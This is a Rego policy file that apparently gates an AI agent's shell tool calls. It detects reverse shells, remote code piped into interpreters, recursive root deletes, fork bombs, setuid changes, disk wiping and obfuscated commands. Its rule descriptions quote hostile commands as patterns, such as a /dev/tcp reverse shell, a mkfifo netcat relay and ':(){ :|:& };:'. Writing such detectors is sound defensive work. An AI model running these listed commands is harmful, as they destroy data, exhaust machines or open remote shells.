# METADATA
# title: Shell commands
# description: |
#   Dangerous shell commands, matched on the parsed shell facts (toolgate.shell), never
#   on the raw text: quoting, absolute binary paths, chaining, pipes, substitutions and
#   wrappers (sudo, env, xargs, timeout, find -exec ...) are already resolved. Rules
#   about a command are keyed by its name (found_command) or its tag (found_tag) and
#   only evaluated when such a command runs (see violations).
package toolgate.exec

import data.toolgate.shell

# violations evaluates only the rules that can match the call: each rule evaluated
# costs, even one that fails at its first expression, and most commands (go test,
# git status) match none. The rules about one command are keyed by its name
# (found_command.rm) and those about a kind of command by its tag (found_tag.power),
# and only the names and tags that run are looked up; the rules about pipelines,
# parser features or written files are evaluated only when the call has some. The
# other rules (found) always run.
violations := (((found | {v |
	some name in shell.names
	some v in found_command[name]
}) | {v |
	some tag, _ in shell.named
	some v in found_tag[tag]
}) | ({v |
	count(shell.pipelines) > 0
	some v in found_in_pipeline
} | {v |
	count(shell.write_targets) > 0
	some v in found_in_write
})) | {v |
	some feats in shell.features
	count(feats) > 0
	some v in found_with_feature
}

# METADATA
# title: Shell command not parsed
# description: A shell argument has no usable fact, so nothing about it can be checked.
# custom:
#   code: shell_unparsed
#   severity: high
found contains v if {
	some field in shell.fields
	not shell.facts[field]
	v := {"code": "shell_unparsed", "severity": "high", "field": field, "message": "the shell command could not be parsed"}
}

# METADATA
# title: Command name that is not a literal
# description: $cmd args, $(echo rm) -rf /, `printf rm` ...
# custom:
#   code: obfuscated_command
#   severity: high
found contains v if {
	some field, f in shell.facts
	some c in f.commands
	c.dynamic == true
	v := {"code": "obfuscated_command", "severity": "high", "field": field, "message": sprintf("the command name %s is not a literal", [c.name])}
}

# METADATA
# title: awk network special files
# description: gawk '... "/inet/tcp/0/host/port" ...'
# custom:
#   code: reverse_shell
#   severity: critical
found contains v if {
	some field, words in shell.words
	some w in words
	contains(w, "/inet/")
	some m in ["/inet/tcp/", "/inet/udp/"]
	contains(w, m)
	v := {"code": "reverse_shell", "severity": "critical", "field": field, "message": "the command opens a network connection through /inet/"}
}

# METADATA
# title: Here-string or here-document fed to an interpreter
# description: |
#   python <<EOF ... EOF, node <<< '...', bash <<< "$x": text the engine does not
#   parse. (A here-document or literal here-string given to a shell is parsed and
#   merged in, and passes.)
# custom:
#   code: obfuscated_command
#   severity: high
found contains v if {
	some r in shell.redirects
	r.op in {"<<", "<<-", "<<<"}
	some name in interpreters
	some inv in shell.by_name[name]
	inv.field == r.field
	reads_stdin(inv.args)
	not parsed_stdin(name, r)
	v := {"code": "obfuscated_command", "severity": "high", "field": r.field, "message": sprintf("commands fed to %s through %s cannot be inspected", [name, r.op])}
}

# METADATA
# title: Recursive delete of a root, home, system or working directory
# description: |
#   rm -r (-rf, -fr, -r -f, -R, --recursive) of /, /*, ~, $HOME, a top-level system
#   directory, ., *, .*, a path with .., or a target only known at run time ($DIR,
#   $(...), which is / when the variable is empty); rm --no-preserve-root.
# custom:
#   code: destructive_command
#   severity: critical
found_command.rm contains v if {
	some inv in shell.by_name.rm
	message := rm_message(inv.args)
	v := {"code": "destructive_command", "severity": "critical", "field": inv.field, "message": message}
}

# METADATA
# title: find deleting from a root, home or system directory
# description: find / -delete, find ~ -exec rm ...
# custom:
#   code: destructive_command
#   severity: critical
found_command.find contains v if {
	some inv in shell.by_name.find
	find_deletes(inv.args)
	roots := [t | some t in find_roots(inv.args); root_like(t)]
	count(roots) > 0
	v := {"code": "destructive_command", "severity": "critical", "field": inv.field, "message": sprintf("find deletes files under %s", [concat(" ", roots)])}
}

# METADATA
# title: setuid or setgid chmod
# description: chmod u+s, g+s, +s, 4755, 2755 ...
# custom:
#   code: privilege_escalation
#   severity: critical
found_command.chmod contains v if {
	some inv in shell.by_name.chmod
	modes := [m | some m in inv.args; setuid_mode(m)]
	count(modes) > 0
	v := {"code": "privilege_escalation", "severity": "critical", "field": inv.field, "message": sprintf("chmod %s sets the setuid or setgid bit", [concat(" ", modes)])}
}

# METADATA
# title: socat running a program
# description: socat tcp:host:port exec:/bin/sh
# custom:
#   code: reverse_shell
#   severity: critical
found_command.socat contains v if {
	some inv in shell.by_name.socat
	some a in inv.args
	some m in ["exec:", "system:"]
	contains(lower(a), m)
	v := {"code": "reverse_shell", "severity": "critical", "field": inv.field, "message": "socat connects a program to the network"}
}

# METADATA
# title: eval behind a wrapper
# description: command eval ..., builtin eval ..., env eval ...
# custom:
#   code: obfuscated_command
#   severity: high
found_command.eval contains v if {
	some inv in shell.by_name.eval
	v := {"code": "obfuscated_command", "severity": "high", "field": inv.field, "message": obfuscation("eval")}
}

# METADATA
# title: Dangerous recursive mode or ownership change
# description: |
#   chmod -R 777 (0777, a+rwx, o+w ...); chmod, chown or chgrp -R on /, ~, $HOME or
#   a top-level system directory; --no-preserve-root.
# custom:
#   code: destructive_command
#   severity: critical
found_tag.mode contains v if {
	some name in shell.named.mode
	some inv in shell.by_name[name]
	message := mode_message(name, inv.args)
	v := {"code": "destructive_command", "severity": "critical", "field": inv.field, "message": message}
}

# METADATA
# title: Write after changing into a system directory
# description: cd /etc && echo x > passwd (also pushd)
# custom:
#   code: system_file_write
#   severity: critical
found_tag.chdir contains v if {
	some name in shell.named.chdir
	some inv in shell.by_name[name]
	some dir in shell.operands(inv.args)
	system_target(dir)
	some wt in shell.write_targets
	wt.field == inv.field
	not startswith(wt.target, "/")
	v := {"code": "system_file_write", "severity": "critical", "field": inv.field, "message": sprintf("writes %s after changing into %s", [wt.target, dir])}
}

# METADATA
# title: Named pipe with a network tool
# description: mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f (also mknod)
# custom:
#   code: reverse_shell
#   severity: critical
found_tag.fifo contains v if {
	some name in shell.named.fifo
	some fifo in shell.by_name[name]
	some net_name in shell.named.relay
	some net in shell.by_name[net_name]
	net.field == fifo.field
	v := {"code": "reverse_shell", "severity": "critical", "field": fifo.field, "message": sprintf("%s with %s relays a shell over the network", [name, net_name])}
}

# METADATA
# title: Shutdown or reboot
# description: shutdown, reboot, halt, poweroff, init 0/6, systemctl poweroff/reboot/halt/kexec/...
# custom:
#   code: destructive_command
#   severity: critical
found_tag.power contains v if {
	some name in shell.named.power
	some inv in shell.by_name[name]
	power(name, inv.args)
	v := {"code": "destructive_command", "severity": "critical", "field": inv.field, "message": sprintf("%s stops or restarts the machine", [name])}
}

# METADATA
# title: Disk formatting or wiping
# description: mkfs, mkfs.*, mke2fs, mkswap, wipefs, blkdiscard, mkdosfs.
# custom:
#   code: destructive_command
#   severity: critical
found_tag.disk contains v if {
	some name in shell.named.disk
	some inv in shell.by_name[name]
	v := {"code": "destructive_command", "severity": "critical", "field": inv.field, "message": sprintf("%s formats or wipes a disk", [name])}
}

# METADATA
# title: Privilege escalation
# description: sudo, sudoedit, su, doas, pkexec, runuser, ksu, setcap.
# custom:
#   code: privilege_escalation
#   severity: critical
found_tag.escalator contains v if {
	some name in shell.named.escalator
	some inv in shell.by_name[name]
	v := {"code": "privilege_escalation", "severity": "critical", "field": inv.field, "message": sprintf("%s runs commands with other privileges", [name])}
}

# METADATA
# title: Downloaded file executed
# description: wget https://x/a.sh && sh a.sh, curl -o x url; ./x
# custom:
#   code: remote_code_execution
#   severity: critical
found_tag.downloader contains v if {
	some d in shell.downloaded
	d.name != ""
	executed[[d.field, d.name]]
	v := {"code": "remote_code_execution", "severity": "critical", "field": d.field, "message": sprintf("runs %s after downloading it", [d.name])}
}

# METADATA
# title: netcat running a program
# description: nc -e /bin/sh, ncat --sh-exec ..., nc -c ...
# custom:
#   code: reverse_shell
#   severity: critical
found_tag.netcat contains v if {
	some name in shell.named.netcat
	some inv in shell.by_name[name]
	flags := [a | some a in inv.args; netcat_exec(a)]
	count(flags) > 0
	v := {"code": "reverse_shell", "severity": "critical", "field": inv.field, "message": sprintf("%s %s connects a program to the network", [name, concat(" ", flags)])}
}

# METADATA
# title: Interactive shell with redirected input or output
# description: bash -i >& ..., sh -i 2>&1 | nc ...
# custom:
#   code: reverse_shell
#   severity: critical
found_tag.shell contains v if {
	some name in shell.named.shell
	some inv in shell.by_name[name]
	shell.has_short_flag(inv.args, "i")
	redirected(inv.field, shell.redirects, shell.pipelines)
	v := {"code": "reverse_shell", "severity": "critical", "field": inv.field, "message": sprintf("interactive %s with redirected input or output", [name])}
}

# METADATA
# title: Scripted reverse shell
# description: python/perl/ruby/php/node one-liners that open a socket (or run nc -e) and run a program.
# custom:
#   code: reverse_shell
#   severity: critical
found_tag.script contains v if {
	some [name, field, code] in scripts
	some s in [
		"socket", "fsockopen", "/inet/tcp", `require("net")`, "require('net')", "net.connect", "net.createconnection",
		"nc -e", "ncat -e", "nc.traditional -e",
	]
	contains(code, s)
	some e in [
		"/bin/sh", "/bin/bash", "sh -i", "bash -i", "pty.spawn", "dup2", "subprocess",
		"child_process", "exec(", "system(", "system ", "system$", "exec ", "popen", "spawn(", "cmd.exe",
	]
	contains(code, e)
	v := {"code": "reverse_shell", "severity": "critical", "field": field, "message": sprintf("%s script opens a socket and runs a program", [name])}
}

# METADATA
# title: Scripted fork bomb
# description: perl -e 'fork while fork', a python loop around os.fork() and the like.
# custom:
#   code: fork_bomb
#   severity: critical
found_tag.script contains v if {
	some [name, field, code] in scripts
	contains(code, "fork")
	some loop in ["while", "loop", "for(;;)", "for (;;)"]
	contains(code, loop)
	v := {"code": "fork_bomb", "severity": "critical", "field": field, "message": sprintf("%s script forks in a loop", [name])}
}

# METADATA
# title: Remote or decoded code piped into an interpreter
# description: curl ... | sh, wget -O- | bash, base64 -d | sh, xxd -r | python, curl ... | sudo bash
# custom:
#   code: remote_code_execution
#   severity: critical
found_in_pipeline contains v if {
	some p in shell.pipelines
	some i, src in p.names
	source(src)
	some j, sink in p.names
	j > i
	runs_code(sink)
	v := {"code": "remote_code_execution", "severity": "critical", "field": p.field, "message": sprintf("output of %s is piped into %s", [src, sink])}
}

# METADATA
# title: Network tool and shell in one pipeline
# description: nc host port | sh, telnet h 1 | /bin/sh | telnet h 2
# custom:
#   code: reverse_shell
#   severity: critical
found_in_pipeline contains v if {
	some p in shell.pipelines
	some net in p.names
	"relay" in shell.tags(net)
	some sh in p.names
	"shell" in shell.tags(sh)
	v := {"code": "reverse_shell", "severity": "critical", "field": p.field, "message": sprintf("%s and %s in one pipeline relay a shell over the network", [net, sh])}
}

# METADATA
# title: Commands piped into a shell
# description: |
#   cat script | sh, some_tool | bash: what a shell reads from a pipe is not
#   inspected. (The engine parses and merges echo '...' | sh and printf '...' | sh,
#   so those pass when their text is literal.)
# custom:
#   code: obfuscated_command
#   severity: high
found_in_pipeline contains v if {
	some p in shell.pipelines
	some j, sink in p.names
	j > 0
	"shell" in shell.tags(sink)
	some inv in shell.by_name[sink]
	inv.field == p.field
	reads_stdin(inv.args)
	not literal_text(p.names[j - 1], p.field, shell.by_name)
	v := {"code": "obfuscated_command", "severity": "high", "field": p.field, "message": sprintf("commands piped into %s cannot be inspected", [sink])}
}

# METADATA
# title: Write to a device
# description: dd of=/dev/..., a redirect, tee, cp, shred ... writing to a device file.
# custom:
#   code: destructive_command
#   severity: critical
found_in_write contains v if {
	some wt in shell.write_targets
	device(wt.target)
	v := {"code": "destructive_command", "severity": "critical", "field": wt.field, "message": sprintf("writes to the device %s", [wt.target])}
}

# METADATA
# title: Write to a system path
# description: |
#   A redirect, tee, cp, mv, install, ln, dd of=, sed -i, touch, rm ... writing under
#   /etc, /boot, /usr, /bin, /sbin, /lib*, /sys, /proc, /root, /var/spool/cron, to a
#   device, or to an absolute path containing "..".
# custom:
#   code: system_file_write
#   severity: critical
found_in_write contains v if {
	some wt in shell.write_targets
	system_target(wt.target)
	v := {"code": "system_file_write", "severity": "critical", "field": wt.field, "message": sprintf("writes to the system path %s", [wt.target])}
}

# METADATA
# title: Remote or decoded code run through a substitution
# description: bash <(curl ...), sh -c "$(curl ...)", eval "$(wget -O- ...)", python -c "$(curl ...)"
# custom:
#   code: remote_code_execution
#   severity: critical
found_with_feature contains v if {
	some src_name in sources
	some field, feats in shell.features
	some feat in ["command_substitution", "process_substitution"]
	feats[feat]
	some src in shell.by_name[src_name]
	src.field == field
	some run_name in substitution_runners
	some run in shell.by_name[run_name]
	run.field == field
	runs_substituted(run_name, run.args)
	v := {"code": "remote_code_execution", "severity": "critical", "field": field, "message": sprintf("%s runs the output of %s", [run_name, src_name])}
}

# METADATA
# title: Reverse shell through /dev/tcp
# description: bash -i >& /dev/tcp/host/port 0>&1, exec 5<>/dev/udp/...
# custom:
#   code: reverse_shell
#   severity: critical
found_with_feature contains v if {
	some field, feats in shell.features
	feats.dev_tcp
	v := {"code": "reverse_shell", "severity": "critical", "field": field, "message": "the command opens a network connection through /dev/tcp or /dev/udp"}
}

# METADATA
# title: Fork bomb
# description: "A function that calls itself in the background or in a pipeline: ':(){ :|:& };:'."
# custom:
#   code: fork_bomb
#   severity: critical
found_with_feature contains v if {
	some field, feats in shell.features
	feats.recursive_function
	spawns(field, feats, shell.pipelines)
	v := {"code": "fork_bomb", "severity": "critical", "field": field, "message": "a function calls itself in the background or in a pipeline"}
}

# METADATA
# title: Obfuscated command
# description: $IFS, \x or \0 escapes, $'...' quoting, eval (also behind a wrapper such as command eval).
# custom:
#   code: obfuscated_command
#   severity: high
found_with_feature contains v if {
	some field, feats in shell.features
	some feat in feats
	message := obfuscation(feat)
	v := {"code": "obfuscated_command", "severity": "high", "field": field, "message": message}
}

# obfuscation describes a parser feature that hides what a command does.
obfuscation(feature) := {
	"ifs": "the command uses $IFS to hide its words",
	"hex_escape": "the command uses \\x or \\0 escapes",
	"ansi_c_quoting": "the command uses $'...' quoting",
	"eval": "eval runs a string built at run time",
}[feature]

# rm_message says why an rm destroys too much; undefined when it does not.
rm_message(args) := "rm --no-preserve-root" if {
	"--no-preserve-root" in args
} else := sprintf("recursive delete of %s", [concat(" ", targets)]) if {
	recursive(args)
	targets := [t | some t in shell.operands(args); delete_target(t)]
	count(targets) > 0
}

# mode_message says why a chmod, chown or chgrp is dangerous; undefined when it is not.
mode_message(name, args) := sprintf("%s --no-preserve-root", [name]) if {
	"--no-preserve-root" in args
} else := sprintf("chmod -R %s makes files world-writable", [concat(" ", modes)]) if {
	name == "chmod"
	upper_recursive(args)
	modes := [m | some m in args; world_writable(m)]
	count(modes) > 0
} else := sprintf("%s -R on %s", [name, concat(" ", roots)]) if {
	upper_recursive(args)
	roots := [t | some t in shell.operands(args); root_like(t)]
	count(roots) > 0
}

# interpreters are the shells and other interpreters that run; sources the
# downloaders and decoders that run (they feed remote or decoded bytes into whatever
# they are piped to). A pipeline's names are names of commands that run (see the
# shell fact), so a lookup in these sets also judges a pipeline stage.
interpreters := object.get(shell.named, "shell", set()) | object.get(shell.named, "script", set())

sources := object.get(shell.named, "downloader", set()) | object.get(shell.named, "decoder", set())

# substitution_runners run the output of a substitution as code.
substitution_runners := interpreters | ({"eval"} & shell.names)

# scripts lists [name, field, program text] for each interpreter tagged script that
# runs: its arguments joined and lower-cased, the text the scripted rules search.
scripts := {[name, inv.field, lower(concat(" ", inv.args))] |
	some name in shell.named.script
	some inv in shell.by_name[name]
}

recursive(args) if shell.has_short_flag(args, "r")

recursive(args) if shell.has_short_flag(args, "R")

recursive(args) if "--recursive" in args

upper_recursive(args) if shell.has_short_flag(args, "R")

upper_recursive(args) if "--recursive" in args

# norm drops trailing "/", "*" and "." so that /, /*, /. and // all become "".
norm(t) := trim_right(lower(t), "/*.")

# root_like: /, the home directory, or a top-level system directory (or their contents).
root_like(t) if {
	startswith(t, "/")
	norm(t) == ""
}

root_like(t) if norm(t) in {"~", "$home", "${home}"}

root_like(t) if {
	n := norm(t)
	startswith(n, "/")
	segs := [s | some s in split(n, "/"); s != ""; s != "."]
	count(segs) == 1
	segs[0] in {
		"bin", "boot", "dev", "etc", "home", "lib", "lib32", "lib64", "libx32", "media", "mnt",
		"opt", "proc", "root", "run", "sbin", "snap", "srv", "sys", "tmp", "usr", "var",
	}
}

delete_target(t) if root_like(t)

# the working directory itself or everything in it: ., ./, *, .*, ./*
delete_target(t) if {
	not startswith(t, "/")
	norm(t) == ""
}

delete_target(t) if norm(t) in {"$pwd", "${pwd}"}

delete_target(t) if ".." in split(t, "/")

# only known at run time: $DIR/, ${X}, $(cmd), `cmd`
delete_target(t) if startswith(t, "$")

delete_target(t) if startswith(t, "`")

find_deletes(args) if "-delete" in args

find_deletes(args) if {
	some i, a in args
	a in {"-exec", "-execdir", "-ok", "-okdir"}
	shell.file_name(args[i + 1]) in {"rm", "shred", "unlink"}
}

# find_roots are the starting points: the arguments before the first expression.
find_roots(args) := array.slice(args, 0, min({i | some i, a in args; expression_start(a)} | {count(args)}))

expression_start(a) if startswith(a, "-")

expression_start(a) if a in {"(", "!", ")", ","}

power(name, _) if name in {"shutdown", "reboot", "halt", "poweroff"}

power(name, args) if {
	name in {"init", "telinit"}
	some a in args
	a in {"0", "6"}
}

power("systemctl", args) if {
	some a in args
	a in {"poweroff", "reboot", "halt", "kexec", "emergency", "rescue", "suspend", "hibernate"}
}

device(t) if {
	startswith(t, "/")
	contains(t, "dev/")
	p := shell.target_path(t, "")
	startswith(p, "/dev/")
	not shell.harmless_device(p)
}

system_target(t) if {
	startswith(t, "/")
	strings.any_prefix_match(concat("", [shell.target_path(t, ""), "/"]), ["/etc/", "/boot/", "/usr/", "/bin/", "/sbin/", "/lib/", "/lib32/", "/lib64/", "/libx32/", "/sys/", "/proc/", "/root/", "/var/spool/cron/"])
}

system_target(t) if {
	startswith(t, "/")
	".." in split(t, "/")
}

system_target(t) if device(t)

octal(m) if {
	m != ""
	trim(m, "01234567") == ""
}

# mode_clause splits one clause of a symbolic mode (u+s, a=rwx) at op into [who, perms].
mode_clause(clause, op) := [who, perms] if {
	i := indexof(clause, op)
	i >= 0
	who := substring(clause, 0, i)
	trim(who, "ugoa") == ""
	perms := substring(clause, i + 1, -1)
	trim(perms, "rwxXst") == ""
}

world_writable(m) if {
	octal(m)
	substring(m, count(m) - 1, 1) in {"2", "3", "6", "7"}
}

world_writable(m) if {
	some clause in split(m, ",")
	some op in ["+", "="]
	[who, perms] := mode_clause(clause, op)
	contains(perms, "w")
	others(who)
}

others(who) if contains(who, "a")

others(who) if contains(who, "o")

setuid_mode(m) if {
	octal(m)
	count(m) >= 4
	substring(m, count(m) - 4, 1) in {"2", "3", "4", "5", "6", "7"}
}

setuid_mode(m) if {
	some clause in split(m, ",")
	some op in ["+", "="]
	[_, perms] := mode_clause(clause, op)
	contains(perms, "s")
}

# runs_code is true for a pipeline element that executes what it reads: an
# interpreter, or a wrapper when an interpreter runs in the command (curl ... | sudo
# bash, ... | xargs python).
# Pipeline elements are judged by their own tags (source, runs_code): a name in a
# pipeline is not required to be among the commands of the fact.
source(name) if {
	some tag in shell.tags(name)
	tag in {"downloader", "decoder"}
}

runs_code(name) if {
	some tag in shell.tags(name)
	tag in {"shell", "script"}
}

runs_code(name) if {
	"wrapper" in shell.tags(name)
	count(interpreters) > 0
}

runs_substituted(name, _) if "shell" in shell.tags(name)

runs_substituted(name, _) if name in {"source", ".", "eval"}

# an interpreter given its program as an argument: python -c "$(curl ...)"
runs_substituted(_, args) if {
	some a in args
	code_arg(a)
}

code_arg(a) if a in {"-c", "-e", "-E", "-r", "-"}

code_arg(a) if startswith(a, "<(")

# executed lists as [field, name] the files the commands of a field run: each
# command by its own name (./x runs x), and the script an interpreter is given (sh
# i.sh). One pass over the commands, instead of one per downloaded file.
executed := {[inv.field, inv.name] | some inv in shell.invocations} | {[inv.field, shell.file_name(ops[0])] |
	some inv in shell.invocations
	inv.name in interpreters
	ops := shell.operands(inv.args)
}

netcat_exec(a) if a in {"--exec", "--sh-exec", "--lua-exec"}

netcat_exec(a) if strings.any_prefix_match(a, ["--exec=", "--sh-exec=", "--lua-exec="])

netcat_exec(a) if {
	shell.short_flags(a)
	some letter in ["e", "c"]
	contains(a, letter)
}

# redirected is true when a field has a redirect or a pipeline.
redirected(field, redirects, _) if {
	some r in redirects
	r.field == field
}

redirected(field, _, pipelines) if {
	some p in pipelines
	p.field == field
}

# spawns is true when a field runs something in the background or in a pipeline.
spawns(_, feats, _) if feats.background

spawns(field, _, pipelines) if {
	some p in pipelines
	p.field == field
}

# literal_text is true when a pipeline stage is echo or printf with literal
# arguments only: the engine parses what it prints into a shell.
literal_text(name, field, by_name) if {
	name in {"echo", "printf"}
	some inv in by_name[name]
	inv.field == field
	every a in inv.args {
		not contains(a, "$")
		not contains(a, "`")
	}
}

# parsed_stdin is true when the engine parsed what a redirect feeds to a shell: a
# here-document, or a literal here-string.
parsed_stdin(name, r) if {
	"shell" in shell.tags(name)
	r.op != "<<<"
}

parsed_stdin(name, r) if {
	"shell" in shell.tags(name)
	not contains(r.target, "$")
	not contains(r.target, "`")
}

# reads_stdin is true when a shell or interpreter takes its program from standard
# input: no script operand, or -s.
reads_stdin(args) if count(shell.operands(args)) == 0

reads_stdin(args) if "-s" in args
